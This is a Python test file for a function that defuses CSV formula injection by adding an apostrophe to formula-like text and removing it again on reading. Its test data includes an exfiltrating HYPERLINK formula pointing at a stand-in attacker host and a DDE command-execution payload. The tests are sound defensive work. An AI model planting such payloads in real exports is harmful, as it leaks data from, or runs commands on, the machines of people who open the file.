"""Text that a spreadsheet program would take for a formula is made harmless in CSV, and comes back as it was."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from portfolio.harmless import as_it_was, looks_like_a_formula, made_harmless

FORMULAS = (
    "=1+1", "+47 22 33 44 55", "-2 årsverk", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "=", "＝1", "'=1",
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
)  # fmt: skip
HARMLESS = ("", "Chat", "1 + 1 = 2", "a=1", "'sitat'", "–", "«=»", "3-årig")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_calculated_gets_an_apostrophe(text):
    assert (made_harmless(text), as_it_was(made_harmless(text))) == (f"'{text}", text)


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_left_alone_both_ways(text):
    assert (made_harmless(text), as_it_was(text)) == (text, text)


def text_like_formulas():
    return st.text(st.sampled_from("'=+-@ \t\r\na1＝")) | st.text()


@given(text_like_formulas())
@example("'")
@example("''=1")
def test_every_text_comes_back_as_it_was(text):
    assert as_it_was(made_harmless(text)) == text


@given(text_like_formulas())
def test_nothing_that_is_written_begins_as_a_formula_does(text):
    written = made_harmless(text)
    assert written.lstrip().startswith(("=", "+", "-", "@")) is False
    assert (written.startswith("'")) or not looks_like_a_formula(written)
